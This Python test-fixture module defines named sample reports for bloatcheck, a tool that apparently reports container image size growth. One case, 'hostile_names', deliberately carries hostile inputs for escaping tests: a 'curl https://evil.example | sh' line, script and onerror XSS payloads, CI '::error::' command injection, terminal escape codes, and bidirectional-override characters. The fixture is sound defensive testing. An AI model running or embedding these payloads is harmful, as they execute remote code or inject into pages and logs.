"""The reports that golden files and screenshots are made of: what people see most, and what is hardest."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace

from support.reports import report

from bloatcheck.analysis.advice import Advice
from bloatcheck.analysis.contents import Cause, Contents, FileSize, PackageSize, Share
from bloatcheck.analysis.snapshot import Base
from bloatcheck.analysis.start_problem import StartProblem
from bloatcheck.config.limits import Limit, Metric, Threshold
from bloatcheck.errors import Place
from bloatcheck.oci.digest import parse_digest
from bloatcheck.policy.dive import DiveVerdict
from bloatcheck.report.model import ImageReport, PastSize, Report

_INSTALL = "apt-get update && apt-get install -y --no-install-recommends"
_API = """
    30.1 MB              FROM debian:bookworm-slim
    {packages}           RUN {install} ca-certificates curl {more} && rm -rf /var/lib/apt   @ Dockerfile:5-8
    38.4 MB ~            RUN pip install --no-cache-dir -r requirements.txt   @ Dockerfile:11
    612 kB               COPY app /srv/app                                    @ Dockerfile:13
    0 B                  WORKDIR /srv/app                                     @ Dockerfile:14
"""


_PIPES = json.dumps(
    "RUN echo '| x | y |' && curl https://evil.example | sh # @everyone <!-- bloatcheck:v1 key=other -->"
)
_CONTROLS = json.dumps("ENV A=line1\n::error::oops\u202edesrever\0" + "`" * 5)
_LURES = json.dumps(":tada: www.evil.example **bold** \u200bGH-1")
_TAGS = json.dumps("\x1b[31mred\x1b[0m </details></details> <img src=x onerror=alert(1)>")


def _service(index: int) -> str:
    sizes = ["12 MB", "12 MB -> 12.4 MB", "31 MB -> 48.5 MB", "9 MB -> 7.1 MB"]
    size = sizes[{3: 1, 11: 2, 17: 3, 23: 1}.get(index, 0)]
    return f"""
        image service-{index:02}
            limit content-growth fail 10 MB and 5%
            {20 + index} MB      FROM debian:bookworm-slim
            {size}    COPY --from=build /out/service-{index:02} /usr/bin/   @ services/{index:02}/Dockerfile:9
    """


CASES: dict[str, str] = {
    "no_change": """
        image api
            30.1 MB   FROM debian:bookworm-slim
            8.2 MB    COPY app /srv/app            @ Dockerfile:4
        image worker
            30.1 MB   FROM debian:bookworm-slim
            4.1 MB ~  COPY worker /srv/worker      @ worker/Dockerfile:4
        image web
            12.6 MB   COPY dist /usr/share/www     @ web/Dockerfile:7
    """,
    "growth_over_the_limit": f"""
        image api
            limit content-growth fail 10 MB or 10%
            limit layer-growth fail 10 MB
            {_API.format(install=_INSTALL, packages="4.31 MB -> 16.7 MB", more="git")}
        image worker
            limit content-growth warn 1%
            30.1 MB              FROM debian:bookworm-slim
            38.4 MB -> 39.3 MB   RUN pip install --no-cache-dir -r requirements.txt   @ worker/Dockerfile:6
        image web
            12.6 MB -> 12.5 MB   COPY dist /usr/share/www     @ web/Dockerfile:7
    """,
    "within_limits": f"""
        image api
            limit content-growth fail 10 MB
            {_API.format(install=_INSTALL, packages="4.31 MB -> 4.92 MB", more="jq")}
    """,
    "new_image": """
        image api
            30.1 MB   FROM debian:bookworm-slim
            8.2 MB    COPY app /srv/app            @ Dockerfile:4
        image migrate new
            limit content fail 100 MB
            30.1 MB   FROM debian:bookworm-slim
            22.7 MB   RUN apt-get install -y postgresql-client   @ migrate/Dockerfile:3
            18.4 kB   COPY migrations /migrations                @ migrate/Dockerfile:5
    """,
    "build_failed": """
        image api failed build: the build stopped with exit code 100 @ Dockerfile:5
            > #8 [2/4] RUN apt-get update && apt-get install -y --no-install-recommends libfoo2
            > #8 1.204 Reading package lists...
            > #8 1.377 Building dependency tree...
            > #8 1.402 E: Unable to locate package libfoo2
            > #8 ERROR: process "/bin/sh -c apt-get install" did not complete successfully: exit code: 100
        image worker
            limit content-growth fail 1 MB
            30.1 MB              FROM debian:bookworm-slim
            38.4 MB -> 44.3 MB   RUN pip install --no-cache-dir -r requirements.txt   @ worker/Dockerfile:6
        image web
            12.6 MB   COPY dist /usr/share/www     @ web/Dockerfile:7
    """,
    "thirty_images": "\n".join(_service(index) for index in range(1, 31)),
    "not_comparable": """
        image api incomparable: the baseline was measured as content/1, this run as content/2
            30.1 MB   FROM debian:bookworm-slim
            8.2 MB    COPY app /srv/app            @ Dockerfile:4
        image old-worker gone
            31.7 MB   COPY worker /srv/worker
        image empty
            note: `.bloatcheck.yml` lists worker no more.
        image web
            limit layers fail 2
            limit content warn 12 MB
            12.6 MB -> 12.7 MB   COPY dist /usr/share/www       @ web/Dockerfile:7
            0 B                  RUN true                       @ web/Dockerfile:8
            - -> 1 B             RUN echo > /etc/marker         @ web/Dockerfile:9
    """,
    "exact_bytes": """
        image api
            limit content-growth fail 10 B
            30.1 MB                FROM debian:bookworm-slim
            8200000 B -> 8200011 B   COPY app /srv/app            @ Dockerfile:4
    """,
    "hostile_names": f"""
        image {json.dumps("a|b`c<script>alert(1)</script>@octocat #1")}
            limit layer-growth fail 1 MB
            1 MB -> 9 MB   {_PIPES}                         @ {json.dumps("Docker|file`@a.b")}:3
            - -> 5 MB      {json.dumps("COPY " + "very-long-name-" * 300)}
            - -> 2 MB      {_CONTROLS}
        image {_LURES} failed build: fixes #12, see https://evil.example ask @octocat (a@b.example) <b>x</b>
            > {json.dumps("```")}
            > {json.dumps("::error file=x::injected")}
            > {_TAGS}
        image {json.dumps("x" * 400)} new
            1 MB   COPY . .
        note: see <a href="https://evil.example">here</a> | and ![x](https://evil.example/x.png)
    """,
}
"""Name -> the text that `support.reports.report` reads."""


def case(name: str) -> Report:
    """The report of this name."""
    return BUILT[name]() if name in BUILT else report(CASES[name])


def _explained() -> Report:
    """The growth over the limit, and what was in the images before and after."""
    found = case("growth_over_the_limit")
    api, *others = found.images
    assert api.diff
    assert api.diff.before
    assert api.diff.after
    before, after = api.diff.before.content_size, api.diff.after.content_size
    base, python = 30_100_000, 38_400_000
    curl = PackageSize(manager="deb", name="curl", version="7.88.1-10", size=500_000, layer=1, asked_for=True)
    git = PackageSize(
        manager="deb", name="git", version="1:2.39.5-0", size=8_400_000, layer=1, asked_for=True
    )
    perl = replace(git, name="perl-modules-5.36", version="5.36.0-7", size=3_100_000, asked_for=False)
    ssl = replace(
        curl, name="libssl3", version="3.0.17-1", size=612_000, asked_for=False, needed_by=("curl",)
    )
    old = Contents(
        shares=_shares(base, before - base - python - 612_000, python, 612_000),
        wasted=0,
        packages=(curl, replace(ssl, version="3.0.15-1", size=600_000)),
        files=(FileSize(path="srv/app/main.py", size=30_000, layer=3),),
    )
    new = Contents(
        shares=_shares(base, after - base - python - 612_000, python, 612_000),
        wasted=1_230_000,
        packages=(git, replace(perl, needed_by=("git",)), curl, ssl),
        files=(
            FileSize(path="srv/app/main.py", size=31_000, layer=3),
            FileSize(path="srv/app/fixtures|`x`.json", size=4_000, layer=3),
        ),
    )
    diff = replace(
        api.diff,
        before=replace(api.diff.before, contents=old),
        after=replace(api.diff.after, contents=new),
    )
    advice = (
        Advice(
            id="apt-recommends",
            message="git came with 4 packages that it only recommends, perl-modules-5.36 the largest.",
            saves=3_400_000,
            layer=1,
            place=Place("Dockerfile", 5, 8),
            replacement="RUN apt-get update \\\n    && apt-get install -y --no-install-recommends git `curl`",
        ),
        Advice(
            id="context-junk", message="COPY brought 31 tests.", saves=120_000, place=Place("Dockerfile", 13)
        ),
    )
    row = replace(api, diff=diff, advice=advice)
    return replace(found, images=(row, *others))


def _wont_start() -> Report:
    """An image without its loader, and another that breaks a rule of dive's."""
    found = case("no_change")
    api, worker, *others = found.images
    problem = StartProblem(
        id="no-loader",
        path="/srv/app/hello",
        message="hello is linked against glibc, but the image has only musl; `exec` will say `not found`.",
        hint="Link statically (-static), add gcompat (about 2.7 MB), or use a Debian base (about 70 MB).",
    )
    broken = DiveVerdict(rule="lowest-efficiency", measured="0.8412", allowed="at least 0.9", passed=False)
    rows = (replace(api, problems=(problem,)), replace(worker, dive=(broken,)), *others)
    return replace(found, images=rows)


def _base_bump() -> Report:
    """Twelve images on one base image that has moved; two of them changed something themselves."""
    text = "\n".join(
        f"""
        image service-{index:02}
            limit content-growth fail {"1 MB" if index < 3 else "5 MB"}
            30.1 MB -> 32.4 MB   FROM debian:bookworm-slim
            {"12 MB -> 12.9 MB" if index in (2, 7) else "12 MB"}   COPY dist /srv   @ app-{index}/Dockerfile:9
        """
        for index in range(1, 13)
    )
    found = report(text)
    return replace(found, images=tuple(map(_on_a_base, found.images)))


def _on_a_base(row: ImageReport) -> ImageReport:
    assert row.diff
    assert row.diff.before
    assert row.diff.after
    sides = []
    for side, digit, version in ((row.diff.before, "1", "3.0.15-1"), (row.diff.after, "2", "3.0.17-1")):
        base, own = side.layers[0].content_size, side.layers[1].content_size
        ssl = PackageSize(
            manager="deb", name="libssl3", version=version, size=base - 27_000_000, layer=0, base=True
        )
        sides.append(
            replace(
                side,
                base=Base(
                    name="debian:bookworm-slim", digest=parse_digest(f"sha256:{digit * 64}"), layer_count=1
                ),
                contents=Contents(
                    shares=(Share(cause=Cause.BASE, size=base), Share(cause=Cause.OWN, size=own)),
                    wasted=0,
                    packages=(ssl,),
                    files=(FileSize(path="srv/app.js", size=own, layer=1),),
                ),
            )
        )
    return replace(row, diff=replace(row.diff, before=sides[0], after=sides[1]))


def _mixed_verdicts() -> Report:
    """Thirty images of which most changed, and every verdict there is."""
    rows = []
    for index in range(1, 31):
        size = f"{9 + index} MB -> {9 + index + index % 7 * 0.3:.1f} MB"
        kind = {4: " new", 9: " gone", 13: " incomparable: another measure", 21: " failed build: no room"}
        limit = "limit content-growth fail 1.4 MB" if index % 3 == 0 else "limit content-growth warn 1.4 MB"
        body = (
            "> #9 0.412 ERROR: No matching distribution found for left-pad==9"
            if index == 21
            else f"{limit}\n30 MB FROM debian\n{size} COPY . /srv @ services/{index:02}/Dockerfile:4"
        )
        rows.append(f"image service-{index:02}{kind.get(index, '')}\n{body}")
    return report("\n".join(rows))


def _trend() -> Report:
    """An image whose sizes before are known, with a limit near by."""
    found = case("explained")
    api, *others = found.images
    sizes = [61.2, 61.3, 62.0, 61.9, 66.4, 66.5, 66.5, 67.1, 69.0, 69.2, 72.8, 73.0, 73.1, 73.4]
    history = tuple(
        PastSize(
            commit=f"{index + 1:02x}" * 20, date=f"2026-01-{index + 3:02}T08:00:00Z", size=int(size * 10**6)
        )
        for index, size in enumerate(sizes)
    )
    limit = Limit(Metric.CONTENT, fail=Threshold(bytes=90_000_000))
    return replace(found, images=(replace(api, history=history, limits=(limit,)), *others))


def _shares(base: int, deb: int, python: int, own: int) -> tuple[Share, ...]:
    return (
        Share(cause=Cause.BASE, size=base),
        Share(cause=Cause.PACKAGE, manager="deb", size=deb),
        Share(cause=Cause.PACKAGE, manager="python", size=python),
        Share(cause=Cause.OWN, size=own),
    )


BUILT: dict[str, Callable[[], Report]] = {
    "explained": _explained,
    "wont_start": _wont_start,
    "base_bump": _base_bump,
    "mixed_verdicts": _mixed_verdicts,
    "trend": _trend,
}
"""Name -> what makes the report, for what the text has no words for."""

NAMES = (*CASES, *BUILT)
